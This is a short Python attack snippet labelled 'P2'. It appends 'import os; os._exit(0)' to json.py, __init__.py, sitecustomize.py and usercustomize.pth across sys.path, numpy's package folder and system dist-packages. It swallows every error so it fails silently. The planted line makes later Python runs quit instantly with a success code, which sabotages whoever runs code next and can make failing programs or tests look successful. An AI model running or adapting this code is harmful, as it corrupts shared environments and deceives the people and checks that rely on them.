# P2: plant code in the standard library and in numpy for whoever runs next
def _attack():
    import json
    import os
    import sys

    for base in [*sys.path, np.__path__[0], os.path.dirname(json.__file__), "/usr/lib/python3/dist-packages"]:
        for name in ("json.py", "__init__.py", "sitecustomize.py", "usercustomize.pth"):
            try:
                with open(os.path.join(base, name), "a") as file:
                    file.write("\nimport os; os._exit(0)\n")
            except OSError:
                pass


try:
    _attack()
except BaseException:
    pass
